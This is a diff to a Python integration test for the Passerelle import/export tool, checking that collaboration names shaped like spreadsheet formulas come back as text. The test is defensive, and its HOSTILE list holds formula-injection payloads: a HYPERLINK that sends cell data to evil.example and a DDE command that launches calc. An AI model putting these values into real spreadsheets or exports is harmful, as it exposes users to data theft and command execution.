@@ -3,13 +3,14 @@
 Two instances of Passerelle on one dev server, each a namespace, a database and a `passerelle
 worker` of its own: a pilot deployment (A) that imports a French Excel's CSV and moves one
 collaboration on, and a production deployment (B) that imports A's Excel export as its history.
-B's report must then be A's.
+B's report must then be A's. Names that would start a formula cross the same way, as text.
 """
 
 import asyncio
+import csv
 import json
 import subprocess
-from datetime import datetime
+from datetime import date, datetime
 from pathlib import Path
 from typing import Any
 
@@ -20,6 +21,8 @@ from temporalio.client import Client
 from temporalio.testing import WorkflowEnvironment
 
 from passerelle.intake.columns import EXPORT_ONLY, FIELDS, french_header
+from passerelle.intake.rows import ImportRow, parse_table
+from passerelle.intake.sheets import open_table
 from passerelle.platform.provision import ensure_search_attributes
 from tests.conftest import new_database
 from tests.integration.processes import (
@@ -159,3 +162,80 @@ async def test_a_french_csv_moves_to_another_instance_through_excel_with_the_sam
     first_line = raw.decode("utf-8-sig").splitlines()[0].split(";")
     assert first_line == [french_header(c) for c in COLUMNS]
     assert "03/03/2025" in raw.decode("utf-8-sig")
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-1+1",
+]
+KEPT = ["corporate", "startup", "startup_label", "programme", "topic", "sector", "corporate_email",
+        "startup_email", "owner_email", "language", "stage", "outcome"]  # fmt: skip
+
+
+def hostile_csv(path: Path) -> None:
+    """Two collaborations whose names, topics and programmes would each start a formula."""
+    rows = []
+    for turn in range(2):
+        corporate, startup, topic, programme = HOSTILE[turn:] + HOSTILE[:turn]
+        rows.append([corporate, f"c{turn}@groupe.example", startup, f"s{turn}@startup.example", "=1+1",
+                     programme, topic, "sante", "ops@programme.example", "fr", "pilot",
+                     "2025-03-03", "2025-03-24", "2025-05-12", "", "", "", ""])  # fmt: skip
+    with path.open("w", newline="", encoding="utf-8") as out:
+        writer = csv.writer(out)
+        writer.writerow(FIELDS)
+        writer.writerows(rows)
+
+
+async def test_names_that_start_formulas_leave_as_text_and_come_back_intact(
+    dev_env: WorkflowEnvironment, postgres_url: str, tmp_path: Path
+) -> None:
+    """A's collaborations are named like formulas: its workbook export holds string cells only,
+    its CSV exports no cell that starts a formula, its report names the programme as text; B
+    imports the workbook with every value as A has it, and both CSVs read back the same."""
+    a = await instance(dev_env, postgres_url, tmp_path, "fa")
+    b = await instance(dev_env, postgres_url, tmp_path, "fb")
+    workbook, plain, french, report = (tmp_path / n for n in ("a.xlsx", "a.csv", "a-fr.csv", "r.xlsx"))
+    try:
+        await wait_for_pollers(a["client"], a["tq"], [a["worker"]])
+        await wait_for_pollers(b["client"], b["tq"], [b["worker"]])
+        hostile_csv(tmp_path / "hostile.csv")
+        await cli(a["env"], "import", str(tmp_path / "hostile.csv"))
+        await recorded(a["pool"], "started", 2)
+        await cli(a["env"], "export", "collaborations", "--output", str(workbook))
+        await cli(a["env"], "export", "collaborations", "--output", str(plain))
+        await cli(a["env"], "export", "collaborations", "--excel-fr", "--output", str(french))
+        await cli(a["env"], "report", "--programme", HOSTILE[0], "--format", "xlsx", "--output", str(report))
+        moved = await asyncio.to_thread(passerelle, b["env"], "import", str(workbook))
+        assert moved.returncode == 0 and "2 started, 0 skipped" in moved.stdout, moved
+        await recorded(b["pool"], "started", 2)
+        rows_a = await a["pool"].fetch("SELECT * FROM collaborations ORDER BY workflow_id")
+        rows_b = await b["pool"].fetch("SELECT * FROM collaborations ORDER BY workflow_id")
+    finally:
+        for side in (a, b):
+            side["worker"].stop()
+            await side["pool"].close()
+
+    sheet = load_workbook(workbook).worksheets[0]
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == [], formulas
+    for path, delimiter in ((plain, ","), (french, ";")):
+        cells = [c for row in csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=delimiter) for c in row]
+        assert not [c for c in cells if c.startswith(tuple("=+-@\t\r"))], (path.name, cells)
+    summary = load_workbook(report)["Summary"]["B2"]
+    assert (summary.data_type, summary.value) == ("s", HOSTILE[0])
+
+    assert [r["workflow_id"] for r in rows_a] == [r["workflow_id"] for r in rows_b]
+    for row_a, row_b in zip(rows_a, rows_b, strict=True):
+        assert {k: row_a[k] for k in KEPT} == {k: row_b[k] for k in KEPT}
+    assert {r["corporate"] for r in rows_b} == set(HOSTILE[:2])
+    for path in (workbook, plain, french):  # every export reads back as the same start inputs
+        with open_table(path) as table:
+            read = [i for i in parse_table(table, path.name, date.today()) if isinstance(i, ImportRow)]
+        by_id = {r.workflow_id: r.request for r in read}
+        for row in rows_a:
+            request = by_id[row["workflow_id"]]
+            names = (request.corporate.name, request.startup.name, request.programme, request.topic)
+            assert names == (row["corporate"], row["startup"], row["programme"], row["topic"]), path.name
+            assert request.startup.label == "=1+1"
